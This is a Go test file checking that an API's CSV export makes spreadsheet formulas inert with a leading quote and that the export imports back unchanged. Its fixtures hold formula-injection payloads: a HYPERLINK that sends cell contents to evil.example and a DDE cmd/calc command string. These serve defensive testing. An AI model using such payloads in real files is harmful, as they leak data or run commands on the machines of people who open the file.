package httpapi

import (
	"context"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/pbxtopo/pbxtopo/service"
)

// TestExportIsInertAndImportsBack: cells a spreadsheet would run come out
// of export with a leading quote; importing the export back changes
// nothing, and E.164 numbers are exactly what went in.
func TestExportIsInertAndImportsBack(t *testing.T) {
	svc, st := sampleService(t)
	ctx := context.Background()
	for table, csv := range map[string]string{
		"extensions": "cluster,regexten,name,callerid,fullcontact\n" +
			`tpa1,7001,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+14155550123,@SUM(1+1)*cmd|' /C calc'!A0` + "\n",
		"trunks": "cluster,name,host,callerid,fullcontact\ntpa1,E164-OUT,sip.example.net,+14155550199,-2+3\n",
	} {
		if _, err := svc.Import(ctx, service.ImportRequest{Table: table, Source: table + ".csv"}, strings.NewReader(csv)); err != nil {
			t.Fatalf("%s: %v", table, err)
		}
	}
	srv := httptest.NewServer(Handler(svc, nil))
	defer srv.Close()
	before := st.Summary()
	for _, tc := range []struct {
		table string
		cells []string
	}{
		{"extensions", []string{`"'=HYPERLINK(`, ",'+14155550123,", `'@SUM(1+1)`}},
		{"trunks", []string{",'+14155550199,", ",'-2+3"}},
	} {
		code, body := apiCall(t, srv, "GET", "/v1/export?table="+tc.table, nil, "")
		if code != 200 {
			t.Fatalf("export %s: %d %s", tc.table, code, body)
		}
		for _, c := range tc.cells {
			if !strings.Contains(body, c) {
				t.Errorf("export of %s lacks the inert cell %s", tc.table, c)
			}
		}
		rep, err := svc.Import(ctx, service.ImportRequest{Table: tc.table, Source: tc.table + ".csv"}, strings.NewReader(body))
		if err != nil || rep.Changed != 0 {
			t.Fatalf("importing the export of %s back: %+v %v, want nothing changed", tc.table, rep, err)
		}
	}
	if after := st.Summary(); !after.Equal(before) {
		t.Fatalf("the round trip changed the store: %v → %v", before, after)
	}
	ext, _ := svc.Get(ctx, "extensions", "tpa1/7001")
	trunk, _ := svc.Get(ctx, "trunks", "tpa1/E164-OUT")
	if ext.Fields["callerid"] != "+14155550123" || trunk.Fields["callerid"] != "+14155550199" || !strings.HasPrefix(ext.Fields["name"], "=HYPERLINK") {
		t.Fatalf("values changed: %v / %v", ext.Fields, trunk.Fields)
	}
}
